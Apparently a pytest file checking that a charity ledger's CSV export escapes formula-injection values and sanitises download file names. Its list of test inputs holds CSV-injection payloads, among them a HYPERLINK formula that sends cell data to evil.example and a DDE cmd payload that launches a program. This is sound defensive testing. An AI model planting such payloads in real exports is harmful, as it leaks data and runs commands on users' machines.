"""CSV injection (OWASP): a hostile payee or purpose in a campaign's ledger.csv is text when a
spreadsheet opens it, never a formula; the amounts we computed stay numbers."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from heartchain import csvsafe
from tests.conftest import Ledger
from tests.tracing import factories as f
from tests.tracing.conftest import Cast, needs_donations
from tests.tracing.conftest import cast as cast  # the fixture
from tracing import services

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "＝1+1", 'a","=1+1', "ok\n=1+1"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("\0x", "'\0x"), ("＝1", "'＝1"), ("1-1", "1-1"), ("'=x", "'=x"),
    ("", ""), (None, ""), (-2500, -2500), (0, 0), (True, "True")])
def test_cell(value: object, expected: object) -> None:
    assert csvsafe.cell(value) == expected


def test_text_cells_are_quoted_and_integers_stay_numbers() -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerow(["-5", -5, 'say "hi", then =1', None])
    assert out.getvalue() == '"\'-5",-5,"say ""hi"", then =1",""\r\n'


@needs_donations
async def test_hostile_payee_and_purpose_are_escaped(ledger: Ledger, cast: Cast) -> None:
    await f.donate(ledger, cast.charity, cast.donor, "cash", 90_000, "books")
    for payee, purpose in zip(HOSTILE, reversed(HOSTILE), strict=True):
        await services.disburse(ledger.platform, charity=cast.charity, campaign="books",
                                amount=100, payee=payee, purpose=purpose, receipt=f.digest())
    text = await services.campaign_ledger_csv("books")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 1 + 2 * len(HOSTILE)  # header, gift, disbursement + allocation each
    payees = [r[5] for r in rows if r[2] == "disbursement"]
    assert payees == [csvsafe.cell(p) for p in HOSTILE]
    for row in rows:
        for value in row:
            assert not value.startswith(csvsafe.FORMULA_TRIGGERS) or value[1:].isdigit(), row
    # Every text cell is quoted, so an embedded quote, comma or newline cannot open a new cell.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",' in text
    # Amounts are bare integers a spreadsheet sums: negative ones are data, not formulas.
    assert [r[8] for r in rows if r[2] == "disbursement"] == ["-100"] * len(HOSTILE)


@needs_donations
async def test_csv_download_name_is_header_safe(ledger: Ledger, cast: Cast) -> None:
    from starlette.applications import Starlette

    from tracing import http

    await f.donate(ledger, cast.charity, cast.donor, "cash", 100, "books.2026")
    app = Starlette(routes=http.routes)
    app.state.platform = ledger.platform
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app),
                                 base_url="http://test") as web:
        response = await web.get("/campaigns/books.2026/ledger.csv")
    assert response.headers["content-disposition"] == \
        'attachment; filename="books.2026-ledger.csv"'
    assert http._filename('x\n"; evil') == "x____evil"
